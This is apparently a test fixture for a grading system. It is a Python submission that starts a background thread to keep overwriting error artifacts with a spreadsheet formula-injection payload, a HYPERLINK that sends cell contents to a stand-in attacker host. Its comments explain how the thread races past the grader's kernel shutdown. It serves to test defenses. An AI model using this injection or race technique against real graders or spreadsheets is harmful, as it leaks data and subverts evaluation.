# what: leaves an error text that is a spreadsheet formula (=HYPERLINK ...) in its artifacts, rewritten by a thread after the export cells wrote theirs: the gradebook must write it as text
# answer: copy-tilelang
# solved: copy-cuda
# expect: copy-tilelang=failed copy-tilelang-again=failed copy-cuda=passed copy-performance=pending
# (This attack planted its text at exit once; the grader now kills the kernel after the last cell,
# so nothing runs at exit. A thread still runs between the cells that follow this one.)
import os
import threading
import time


def _plant():
    for _ in range(6000):  # every 10 ms for a minute, or until the kernel is killed
        for check in ("copy-tilelang", "copy-tilelang-again"):
            os.makedirs(f"artifacts/{check}", exist_ok=True)
            with open(f"artifacts/{check}/error.txt", "w") as f:
                f.write('=HYPERLINK("http://attacker.example/?leak="&A1,"click")')
        time.sleep(0.01)


threading.Thread(target=_plant, daemon=True).start()


def copy_program(dtype, gpu):
    raise ValueError("no program")
